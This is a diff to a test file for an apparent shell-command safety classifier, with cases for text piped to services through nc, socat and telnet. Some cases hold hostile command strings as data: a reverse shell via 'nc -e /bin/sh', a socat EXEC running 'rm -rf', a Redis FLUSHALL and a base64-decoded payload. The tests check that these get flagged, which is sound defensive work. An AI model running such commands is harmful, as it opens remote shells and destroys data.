@@ -192,3 +192,25 @@ def test_valgrind_tools_that_write_profiles(classifier: Classifier, command: str
 def test_ssh_here_docs_are_the_remote_commands_input(classifier: Classifier, command: str,
                                                        crud: Crud, asks: bool) -> None:
     assert verdict(classifier, command) == (crud, asks)
+
+
+@pytest.mark.parametrize(("command", "crud", "asks"), [
+    # a client sending text the line shows: the requests decide
+    ("echo stats | nc -q 1 localhost 11211", Crud.READ, False),
+    ("printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 10.0.0.5 80", Crud.READ, False),
+    ("printf '%s\\r\\n' INFO QUIT | nc localhost 6379", Crud.READ, False),
+    ("echo 'show servers state' | socat stdio UNIX-CONNECT:/run/haproxy/admin.sock", Crud.READ,
+     False),
+    ("echo quit | telnet 10.0.0.5 22", Crud.READ, False),
+    ("printf 'DELETE /api/x HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' | nc a 80", Crud.DELETE, True),
+    ("echo FLUSHALL | nc localhost 6379", Crud.DELETE, True),
+    # text that is no request it knows, a listener, a program on the connection: ask
+    ("echo 'disable server be/web1' | socat stdio /run/haproxy/admin.sock", Crud.UPDATE, True),
+    ("nc host 25", Crud.UPDATE, True),
+    ("echo hi | nc -e /bin/sh host 4444", Crud.UPDATE, True),
+    ("echo x | socat - EXEC:'rm -rf /tmp/x'", Crud.UPDATE, True),
+    ("echo c3RhdHM= | base64 -d | nc localhost 11211", Crud.READ, True),  # decoded: asks
+])
+def test_text_sent_to_a_service_is_classified_by_its_requests(
+        classifier: Classifier, command: str, crud: Crud, asks: bool) -> None:
+    assert verdict(classifier, command) == (crud, asks)
